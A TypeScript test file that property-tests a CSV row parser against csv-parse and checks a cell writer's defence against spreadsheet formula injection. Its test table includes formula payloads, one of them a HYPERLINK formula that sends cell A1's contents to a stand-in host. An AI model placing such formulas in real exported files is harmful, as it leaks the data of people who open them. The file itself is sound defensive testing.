import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";

import { splitRow } from "../../src/users/csv-row.js";
import { csvCell } from "../../src/term/csv.js";
import { usersIn } from "./readings.js";

/** What csv-parse makes of the same text; undefined where it refuses it. */
function byCsvParse(text: string): string[][] | undefined {
  try {
    return parse(text, { record_delimiter: ["\r\n", "\n"], relax_column_count: true });
  } catch {
    return undefined;
  }
}

const cell = fc.oneof(
  fc.constantFrom("", "a", " b ", "é🙂", '"', '""', ",", 'a"b', "a\nb", "a\r\nb", "'", ";"),
  fc.string({ maxLength: 5 }),
);

const written = (text: string, always: boolean): string =>
  always || /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;

describe("CSV is read as csv-parse reads it:", () => {
  it("every row that is well-formed", () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, fc.boolean()), { minLength: 2, maxLength: 5 }), (cells) => {
        const row = cells.map(([text, always]) => written(text, always)).join(",");
        expect(splitRow(row)).toEqual(cells.map(([text]) => text));
        expect(byCsvParse(row)).toEqual([cells.map(([text]) => text)]);
      }),
      { numRuns: 1000 },
    );
  });

  it("any text of a line: the same cells, or both refuse it", () => {
    const text = fc
      .array(fc.constantFrom("a", '"', ",", " ", "é"), { minLength: 1, maxLength: 9 })
      .map((all) => all.join(""));
    fc.assert(
      fc.property(text, (row) => {
        const ours = splitRow(row);
        expect(Array.isArray(ours) ? [ours] : undefined).toEqual(byCsvParse(row));
      }),
      { numRuns: 3000 },
    );
  });

  it("whole files", async () => {
    const id = cell.filter((text) => text !== "");
    const rows = fc.array(fc.tuple(id, cell, fc.boolean(), fc.constantFrom("\n", "\r\n")), {
      minLength: 1,
      maxLength: 8,
    });
    await fc.assert(
      fc.asyncProperty(rows, async (all) => {
        const text = `user_id,tier\n${all.map(([user, tier, always, end]) => `${written(user, always)},${written(tier, always)}${end}`).join("")}`;
        const expected = byCsvParse(text)?.slice(1);
        const users = await usersIn(text);
        expect(users.map(({ userId, tier = "" }) => [userId, tier])).toEqual(expected);
      }),
      { numRuns: 300 },
    );
  });
});

describe("cells that are written", () => {
  it.each([
    ["user1", "user1"],
    ["", ""],
    ["ada@company.com", "ada@company.com"],
    ["a,b", '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ["two\nlines", '"two\nlines"'],
    ["=1+1", "'=1+1"],
    ["+49 30", "'+49 30"],
    ["-5", "'-5"],
    ["@sum", "'@sum"],
    ["＝1", "'＝1"],
    ["＠sum", "'＠sum"],
    ["\t=1", '"\'\t=1"'],
    ["\rx", '"\'\rx"'],
    [" =1", "' =1"],
    ["a;=1", '"a;=1"'],
    ['=HYPERLINK("http://a.example/?"&A1,"x")', '"\'=HYPERLINK(""http://a.example/?""&A1,""x"")"'],
  ])("%j → %s", (text, expected) => {
    expect(csvCell(text)).toBe(expected);
  });

  it("read back as the same text, but for the apostrophe, and never begin a formula", () => {
    const risky = fc.array(
      fc.constantFrom("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n", " ", ",", ";", '"', "'", "1", "é"),
    );
    const text = fc
      .oneof(
        risky.map((parts) => parts.join("")),
        fc.string({ unit: "binary" }),
      )
      .filter((one) => one !== "\ufeff");
    fc.assert(
      fc.property(text, text, (one, other) => {
        const [cells = []] = byCsvParse(`${csvCell(one)},${csvCell(other)}`) ?? [];
        expect(cells).toHaveLength(2);
        [one, other].forEach((original, index) => {
          const read = cells[index] ?? "";
          expect([original, `'${original}`]).toContain(read);
          expect(read).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/);
        });
      }),
      { numRuns: 2000 },
    );
  });
});
